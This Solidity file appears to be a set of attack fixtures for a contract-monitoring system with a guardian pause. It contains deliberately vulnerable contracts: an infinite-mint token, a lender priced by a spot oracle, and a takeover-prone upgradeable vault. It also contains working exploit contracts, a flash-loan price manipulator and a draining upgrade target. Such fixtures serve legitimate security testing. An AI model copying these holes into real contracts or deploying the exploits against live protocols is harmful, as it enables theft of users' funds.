// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {OwnableUpgradeable} from "@openzeppelin/contracts-upgradeable/access/OwnableUpgradeable.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts-upgradeable/proxy/utils/UUPSUpgradeable.sol";

/// @title GuardianPausable
/// @notice What lets a monitor answer an attack on a fixture: a guardian (the responder key) pauses
/// the fixture's sensitive functions for a while; the same `pauseFor`/`pausedUntil` shape as the
/// demo pool, so the monitor's pause response drives both.
abstract contract GuardianPausable {
    address private immutable _guardian;
    uint256 private _pausedUntil;

    /// @notice Emitted when the guardian paused the contract until `until`.
    /// @param until Timestamp the pause ends.
    event PausedUntil(uint256 until);

    /// @notice The caller is not the guardian.
    /// @param caller The caller.
    error GuardianPausableUnauthorized(address caller);

    /// @notice The function is paused until `until`.
    /// @param until Timestamp the pause ends.
    error GuardianPausablePaused(uint256 until);

    /// @param guardian_ Who may pause.
    constructor(address guardian_) {
        _guardian = guardian_;
    }

    /// @notice Reverts while paused.
    modifier whenNotPaused() {
        if (block.timestamp < _pausedUntil) revert GuardianPausablePaused(_pausedUntil);
        _;
    }

    /// @notice Pauses for `duration` seconds from now. Guardian only.
    /// @param duration Seconds.
    function pauseFor(uint256 duration) external {
        if (msg.sender != _guardian) revert GuardianPausableUnauthorized(msg.sender);
        _pausedUntil = block.timestamp + duration;
        emit PausedUntil(_pausedUntil);
    }

    /// @notice When the current pause ends (0 or past: not paused).
    /// @return until Timestamp.
    function pausedUntil() external view returns (uint256 until) {
        return _pausedUntil;
    }
}

/// @title AttackToken
/// @notice A plain ERC-20 whose owner mints: the assets of the attack fixtures.
contract AttackToken is ERC20, Ownable {
    constructor(string memory name_) ERC20(name_, name_) Ownable(msg.sender) {}

    /// @notice Mints `amount` to `to`. Owner only.
    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}

/// @title BuggyMintToken
/// @notice Infinite-mint target: the access check reads the recipient's minter flag instead of the caller's.
contract BuggyMintToken is ERC20, Ownable, GuardianPausable {
    mapping(address => bool) private _minters;

    constructor(address guardian_) ERC20("Buggy", "BUG") Ownable(msg.sender) GuardianPausable(guardian_) {
        _minters[msg.sender] = true;
    }

    /// @notice Mints `amount` to `to`; the bug: anyone can mint to a minter, and a minter can be anyone's alias.
    function mint(address to, uint256 amount) external whenNotPaused {
        if (!_minters[to] && !_minters[msg.sender]) revert OwnableUnauthorizedAccount(msg.sender);
        _mint(to, amount);
    }
}

/// @title SpotPair
/// @notice A minimal constant-product pair whose spot price a naive lender uses as its oracle.
contract SpotPair {
    IERC20 public immutable token0;
    IERC20 public immutable token1;
    uint112 private _reserve0;
    uint112 private _reserve1;

    /// @notice Emitted after every change of reserves (Uniswap V2 layout).
    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(IERC20 token0_, IERC20 token1_) {
        token0 = token0_;
        token1 = token1_;
    }

    /// @notice Adds liquidity already approved by the caller.
    function addLiquidity(uint256 amount0, uint256 amount1) external {
        token0.transferFrom(msg.sender, address(this), amount0);
        token1.transferFrom(msg.sender, address(this), amount1);
        _sync();
    }

    /// @notice Swaps `amountIn` of `tokenIn` (approved) for the other token, sent to the caller.
    function swap(IERC20 tokenIn, uint256 amountIn) external returns (uint256 amountOut) {
        bool zeroIn = tokenIn == token0;
        (uint256 rIn, uint256 rOut) = zeroIn ? (uint256(_reserve0), uint256(_reserve1)) : (uint256(_reserve1), uint256(_reserve0));
        tokenIn.transferFrom(msg.sender, address(this), amountIn);
        amountOut = (amountIn * 997 * rOut) / (rIn * 1000 + amountIn * 997);
        (zeroIn ? token1 : token0).transfer(msg.sender, amountOut);
        _sync();
    }

    /// @notice The reserves, Uniswap V2 style.
    function getReserves() external view returns (uint112, uint112, uint32) {
        return (_reserve0, _reserve1, uint32(block.timestamp));
    }

    function _sync() private {
        _reserve0 = uint112(token0.balanceOf(address(this)));
        _reserve1 = uint112(token1.balanceOf(address(this)));
        emit Sync(_reserve0, _reserve1);
    }
}

/// @title SpotPriceLender
/// @notice Victim of the price manipulation: values collateral (token0 of the pair) at the pair's spot price.
contract SpotPriceLender is GuardianPausable {
    SpotPair public immutable pair;
    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;

    /// @notice The borrow would exceed 80% of the collateral's spot value.
    error SpotPriceLenderUndercollateralized(uint256 debt, uint256 value);

    constructor(SpotPair pair_, address guardian_) GuardianPausable(guardian_) {
        pair = pair_;
    }

    /// @notice Deposits collateral (token0).
    function depositCollateral(uint256 amount) external {
        pair.token0().transferFrom(msg.sender, address(this), amount);
        collateralOf[msg.sender] += amount;
    }

    /// @notice Borrows token1 up to 80% of the collateral's spot value.
    function borrow(uint256 amount) external whenNotPaused {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        uint256 value = (collateralOf[msg.sender] * r1) / r0;
        if ((debtOf[msg.sender] + amount) * 10 > value * 8) revert SpotPriceLenderUndercollateralized(debtOf[msg.sender] + amount, value);
        debtOf[msg.sender] += amount;
        pair.token1().transfer(msg.sender, amount);
    }

    /// @notice Repays token1 debt.
    function repay(uint256 amount) external {
        pair.token1().transferFrom(msg.sender, address(this), amount);
        debtOf[msg.sender] -= amount;
    }
}

/// @title FlashLender
/// @notice Lends any token it holds for the duration of one call; it must be back by the end.
contract FlashLender {
    /// @notice The loan was not paid back by the end of the call.
    error FlashLenderNotRepaid(uint256 balance, uint256 expected);

    /// @notice Sends `amount` of `token` to `receiver`, calls `onFlashLoan`, and checks the balance is restored.
    function flashLoan(IERC20 token, uint256 amount, address receiver, bytes calldata data) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(receiver, amount);
        IFlashBorrower(receiver).onFlashLoan(token, amount, data);
        uint256 balance = token.balanceOf(address(this));
        if (balance < before) revert FlashLenderNotRepaid(balance, before);
    }
}

/// @notice The flash-loan callback.
interface IFlashBorrower {
    function onFlashLoan(IERC20 token, uint256 amount, bytes calldata data) external;
}

/// @title PriceManipulator
/// @notice Flash-borrows token1, pumps token0's spot price, borrows token1 against inflated collateral, unwinds, repays.
contract PriceManipulator is IFlashBorrower {
    FlashLender private immutable _lender;
    SpotPair private immutable _pair;
    SpotPriceLender private immutable _victim;
    address private immutable _beneficiary;

    constructor(FlashLender lender, SpotPair pair, SpotPriceLender victim) {
        _lender = lender;
        _pair = pair;
        _victim = victim;
        _beneficiary = msg.sender;
    }

    /// @notice Runs the attack with `collateral` of token0 (approved by the caller) and a flash loan of `loan` token1.
    function attack(uint256 collateral, uint256 loan, uint256 take) external {
        _pair.token0().transferFrom(msg.sender, address(this), collateral);
        _lender.flashLoan(_pair.token1(), loan, address(this), abi.encode(collateral, take));
        IERC20 t1 = _pair.token1();
        t1.transfer(_beneficiary, t1.balanceOf(address(this)));
    }

    /// @inheritdoc IFlashBorrower
    function onFlashLoan(IERC20 token, uint256 amount, bytes calldata data) external {
        (uint256 collateral, uint256 take) = abi.decode(data, (uint256, uint256));
        IERC20 t0 = _pair.token0();
        token.approve(address(_pair), type(uint256).max);
        uint256 bought = _pair.swap(token, amount);
        t0.approve(address(_victim), collateral);
        _victim.depositCollateral(collateral);
        _victim.borrow(take);
        t0.approve(address(_pair), bought);
        _pair.swap(t0, bought);
        token.transfer(address(_lender), amount);
    }
}

/// @title OwnedVault
/// @notice Holds deposits; the owner may sweep them (an admin escape hatch): a stolen owner key drains it.
contract OwnedVault is Ownable, GuardianPausable {
    IERC20 public immutable asset;

    constructor(IERC20 asset_, address owner_, address guardian_) Ownable(owner_) GuardianPausable(guardian_) {
        asset = asset_;
    }

    /// @notice Deposits `amount` (approved).
    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
    }

    /// @notice Sends `amount` to `to`. Owner only.
    function sweep(address to, uint256 amount) external onlyOwner whenNotPaused {
        asset.transfer(to, amount);
    }
}

/// @title UpgradeableVault
/// @notice UUPS vault; deployed behind a proxy. Left uninitialized, anyone can take it over.
contract UpgradeableVault is OwnableUpgradeable, UUPSUpgradeable {
    /// @custom:oz-upgrades-unsafe-allow constructor
    constructor() {
        _disableInitializers();
    }

    /// @notice Sets the owner. Meant to run in the deployment transaction.
    function initialize(address owner_) external initializer {
        __Ownable_init(owner_);
    }

    /// @notice A version string.
    function version() external pure virtual returns (string memory) {
        return "1";
    }

    function _authorizeUpgrade(address) internal override onlyOwner {}
}

/// @title MaliciousVault
/// @notice What an attacker upgrades to: lets anyone pull any token the proxy holds.
contract MaliciousVault is UUPSUpgradeable {
    /// @notice Sends the proxy's whole balance of `token` to the caller.
    function drain(IERC20 token) external {
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function _authorizeUpgrade(address) internal override {}
}
